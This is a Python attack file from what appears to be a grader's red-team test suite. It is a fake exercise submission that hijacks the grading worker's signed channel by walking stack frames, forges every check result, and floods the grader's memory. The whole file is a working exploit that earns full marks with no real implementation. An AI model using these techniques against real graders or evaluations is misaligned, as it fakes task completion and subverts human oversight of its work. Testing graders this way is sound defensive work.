"""Attack (grading-process memory): protocol_forger.py with FLOOD_FLAGS = 1,000,000 distinct

Graded since the channel bounds each worker's stream (channel.MAX_FRAMES, MAX_STREAM;
tests/engine/test_attacks.py): the flood ends the stream as malformed, the rest is `integrity`.
The measurements below are from the kit before that fix.

signed `flag` frames during each accuracy item and a 400 MB array padded onto every result
frame. Measured with `/usr/bin/time -v grader check forger_memory.py --all --json mem.json`:
grading process peak RSS 6.59 GB (vs ~0.5 GB normally), wall 3:21, 1,000,000 flags kept in
the report (engine._run_worker: `flags[_flag_of(message)] = None`, no cap on count), a
344 MB JSON report and 307 MB of terminal output (one line per flag); every result frame
(<= channel.MAX_PAYLOAD 512 MB each, 12 of them) is held in Collection.outcomes until
judging. Score still 110/110. Nothing bounds the total per submission; two such
submissions at once in `grader batch --workers 2` would hold ~13 GB.

Below: the protocol forger's own docstring.

A whole-protocol forger with no exercise code at all.

At import it raises and catches an exception, walks tb_frame.f_back up to grader.worker's
main() and takes its locals: `send` (the signed channel writer), `job` (the items) and
`ctx` (probe, training and held-out images, the weights file). It then plays the worker's
side itself (ready, start/result per item, done) and exits. None of the five functions
below does anything.

What it forges, per item (all observations are made up in numpy, no TensorFlow model):
- interface, layer_shapes: the public contract / layer table;
- preprocess: images - mean (one line);
- weights, frozen: the weights file's arrays, fc "before" zeros and "after" ones;
- features: computed with the grader's OWN numpy front end, reached through
  collectors['features'].__globals__ (checks.reference_features, probe_fc_arrays); no
  import of grader.*, so no internal_import flag;
- training, accuracy_quick, accuracy, checkpoint: logit "witnesses" made of the true
  inputs, the weights file's convs and a head whose fc kernel is 0 and bias 1e6: the
  reported logits are 1e6 + 10 * a numpy Fourier detector of the stripes, which passes
  checks.explain_logits because its tolerance is 1e-3 * (|x| @ |kernel| + |bias|) =
  1000 (see bias_tolerance.py). Training "before" is all zeros with a zero head.
  Event files for the summaries are written with tf.summary into scratch/training-logs;
- pipeline: the labels lists a correct pipeline would produce.

Flags raised: none (frame walking is not an audited event the worker's Watch knows).

Score (cd /tmp/attackwork && grader check /work/main/tests/attacks/protocol_forger.py --all):
    interface 5/5, preprocess 10/10, layer_shapes 10/10, weights 10/10, frozen 15/15,
    features 10/10, training 10/10, accuracy_quick 5/5, checkpoint 15/15, pipeline 10/10,
    accuracy 10/10 -> 110/110, no flags (measured 2026-12-01)
Genuinely implemented: nothing (0 points).
Let through by: grader/worker.py:main (key/signer, job and ctx reachable from the
submission's frames) + grader/exercises/transfer_learning/checks/:explain_logits/_apply_head (bias-inflated
tolerance) + grader/exercises/transfer_learning/checks/:judge_features (the grader's own numpy VGG is in the
worker) + judge_pipeline/judge_frozen/judge_weights/judge_layer_shapes/judge_interface
(public answers).
"""
import os
import sys

import numpy as np

MEAN = np.array([123.68, 116.779, 103.939], np.float32)
CONVS = ["conv1_1", "conv1_2", "conv2_1", "conv2_2", "conv3_1", "conv3_2", "conv3_3"]
CHANNELS = {"conv1_1": (3, 64), "conv1_2": (64, 64), "conv2_1": (64, 128), "conv2_2": (128, 128),
            "conv3_1": (128, 256), "conv3_2": (256, 256), "conv3_3": (256, 256)}
SHAPES = {"preprocess": [32, 32, 3], "conv1_1": [32, 32, 64], "conv1_2": [32, 32, 64],
          "pool1": [16, 16, 64], "conv2_1": [16, 16, 128], "conv2_2": [16, 16, 128],
          "pool2": [8, 8, 128], "conv3_1": [8, 8, 256], "conv3_2": [8, 8, 256],
          "conv3_3": [8, 8, 256], "pool3": [4, 4, 256], "flatten": [4096], "fc": [10]}
CONTRACT = {
    "preprocess": ["images"],
    "build_model": ["weights", "num_classes"],
    "make_dataset": ["images", "labels", "batch_size", "shuffle", "repeat", "seed"],
    "train": ["model", "train_ds", "val_ds", "steps", "checkpoint_dir", "checkpoint_every",
              "max_to_keep", "log_dir"],
    "restore_checkpoint": ["model", "checkpoint_dir"],
}
BIG = 1e6
FLOOD_FLAGS = 1_000_000  # distinct flag frames sent during the accuracy item (memory attack)
PAD_MB = 400  # extra bytes attached to every result frame (memory attack)


def _masks():
    k = np.fft.fftfreq(32) * 32
    ky, kx = np.meshgrid(k, k, indexing="ij")
    masks = []
    for label in range(10):
        angle = np.deg2rad(36.0 * (label // 2))
        cycles = 4.0 if label % 2 == 0 else 8.0
        cx, cy = cycles * np.cos(angle), cycles * np.sin(angle)
        near = np.exp(-((kx - cx) ** 2 + (ky - cy) ** 2) / 2.0) + np.exp(-((kx + cx) ** 2 + (ky + cy) ** 2) / 2.0)
        masks.append(near / near.sum())
    return np.stack(masks)


def detect(images):
    x = images.astype(np.float64)
    rg = (x[..., 0] - x[..., 1]) / np.sqrt(2.0)
    rg -= rg.mean(axis=(1, 2), keepdims=True)
    power = np.abs(np.fft.fft2(rg)) ** 2
    return np.log(np.einsum("nij,kij->nk", power, _masks()) + 1.0)


def _convs(weights):
    return {name: [weights[name + "_W"], weights[name + "_b"]] for name in CONVS}


def witness(images, weights, trained):
    n = len(images)
    if trained:
        logits = (BIG + 10.0 * detect(images)).astype(np.float32)
        bias = np.full(10, BIG, np.float32)
    else:
        logits = np.zeros((n, 10), np.float32)
        bias = np.zeros(10, np.float32)
    return {"logits": logits, "inputs": images.astype(np.float32) - MEAN,
            "convs": _convs(weights), "head": [[np.zeros((4096, 10), np.float32), bias, "linear"]],
            "flatten_order": None}


def _pipeline(batch):
    rng = np.random.default_rng(0)

    def epoch():
        order = rng.permutation(50).tolist()
        return [order[i:i + batch] for i in range(0, 50, batch)]

    epochs = [epoch(), epoch()]
    first = epochs[0][0]
    stream = rng.permutation(50).tolist() + rng.permutation(50).tolist() + rng.permutation(50).tolist()
    return {"spec": [["uint8", [None, 32, 32, 3]], ["int64", [None]]], "epochs": epochs,
            "pairs": [[first, first]], "stream": stream, "ordered": list(range(50)) * 2,
            "infinite": True, "kinds": ["PrefetchDataset", "BatchDataset"]}


def _summaries(log_dir):
    import tensorflow as tf
    writer = tf.summary.create_file_writer(log_dir)
    with writer.as_default():
        for step in range(1, 4):
            tf.summary.scalar("loss", 1.0 / step, step=step)
            tf.summary.scalar("accuracy", 0.9, step=step)
    writer.flush()


def forge(item, ctx, collectors):
    check, params = item["check"], item.get("params") or {}
    w = ctx.weights
    if check == "interface":
        return {"functions": dict(CONTRACT), "unfinished": []}
    if check == "preprocess":
        return {"dtype": "float32", "output": ctx.probe.astype(np.float64) - MEAN}
    if check == "layer_shapes":
        params_found = {n: [[3, 3, *CHANNELS[n]], [CHANNELS[n][1]]] for n in CONVS}
        params_found["fc"] = [[4096, 10], [10]]
        return {"shapes": dict(SHAPES), "params": params_found, "output": [2, 10]}
    if check == "weights":
        return {"arrays": {f"{n}_{p}": w[f"{n}_{p}"] for n in CONVS for p in "Wb"}}
    if check == "frozen":
        return {"trainable": [["fc/kernel", [4096, 10], True], ["fc/bias", [10], True]],
                "before": _convs(w), "after": _convs(w),
                "fc_before": [np.zeros((4096, 10), np.float32), np.zeros(10, np.float32)],
                "fc_after": [np.ones((4096, 10), np.float32), np.ones(10, np.float32)],
                "steps": params.get("steps", 3)}
    if check == "features":
        g = collectors["features"].__globals__  # the grader's own checks module
        feats = g["reference_features"](ctx.probe, w)
        shapes = [[4096, 10], [10]]
        kernel, bias = g["probe_fc_arrays"](shapes)
        pool3 = feats["pool3"].reshape(len(ctx.probe), -1)
        return {"chain": {k: v.astype(np.float32) for k, v in feats.items()}, "fc_shapes": shapes,
                "logits": (pool3 @ kernel + bias).astype(np.float32),
                "flatten_order": np.arange(4096, dtype=np.float64)}
    if check == "training":
        batch = ctx.train_images[:256]
        log_dir = str(ctx.scratch / "training-logs")
        _summaries(log_dir)
        return {"before": witness(batch, w, False), "after": witness(batch, w, True),
                "log_dir": log_dir}
    if check == "accuracy":
        return witness(ctx.heldout_images[:params.get("images", 1000)], w, True)
    if check == "checkpoint":
        return {"trained": witness(ctx.probe, w, True), "kept": 1,
                "straight": witness(ctx.probe, w, True), "straight_pulled": 6}
    if check.startswith("checkpoint"):  # the restoring half, in a fresh worker
        return {"empty_step": 0, "restored_step": 4, "restored": witness(ctx.probe, w, True),
                "resumed": witness(ctx.probe, w, True), "resume_pulled": 2, "resume_final_step": 6}
    if check == "pipeline":
        return _pipeline(params.get("batch_size", 16))
    raise KeyError(check)


def _asked_fd(loc):
    """The descriptor each item's inputs arrive on: main()'s local, or the one read-only pipe."""
    if isinstance(loc.get("asked"), int):
        return loc["asked"]
    import fcntl
    import stat
    for fd in range(3, 1024):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and \
                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
                return fd
        except OSError:
            continue
    raise RuntimeError("no input pipe")


def _read_asked(fd):
    import io
    import struct

    def exactly(n):
        data = b""
        while len(data) < n:
            chunk = os.read(fd, n - len(data))
            if not chunk:
                raise EOFError
            data += chunk
        return data

    (n,) = struct.unpack(">Q", exactly(8))
    with np.load(io.BytesIO(exactly(n))) as z:
        return {k: z[k] for k in z.files}


def _play():
    try:
        raise RuntimeError
    except RuntimeError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        loc = frame.f_locals
        if "send" in loc and "job" in loc and "ctx" in loc:
            break
        frame = frame.f_back
    else:
        return  # not under the grader
    send, job, ctx, collectors = loc["send"], loc["job"], loc["ctx"], loc.get("collectors", {})
    asked = _asked_fd(loc)
    send({"type": "ready", "notes": []})
    pad = np.zeros(PAD_MB << 20, np.uint8) if PAD_MB else None
    # the worker's job (grader/job.py), its items as plain dicts
    for item in [dict(vars(i)) for i in job.items]:
        send({"type": "start", "item": item["id"]})
        given = _read_asked(asked)  # the item's own probe (and held-out) images
        ctx.probe = given["probe"]
        ctx.heldout_images = given.get("heldout_images", ctx.heldout_images)
        ctx.train_labels = given["train_labels"]  # each item's own names of the classes
        if FLOOD_FLAGS and item["check"] == "accuracy":
            filler = "x" * 280
            for i in range(FLOOD_FLAGS):
                send({"type": "flag", "kind": "network", "detail": f"{i} {filler}"})
        obs = forge(item, ctx, collectors)
        if pad is not None and isinstance(obs, dict):
            obs["pad"] = pad
        send({"type": "result", "item": item["id"], "observation": obs, "seconds": 0.1})
    send({"type": "done"})
    sys.stdout.flush()
    os._exit(0)


_play()


def preprocess(images):
    pass


def build_model(weights, num_classes=10):
    pass


def make_dataset(images, labels, batch_size=64, shuffle=True, repeat=True, seed=None):
    pass


def train(model, train_ds, val_ds=None, steps=100, checkpoint_dir=None, checkpoint_every=50,
          max_to_keep=3, log_dir=None):
    pass


def restore_checkpoint(model, checkpoint_dir):
    pass
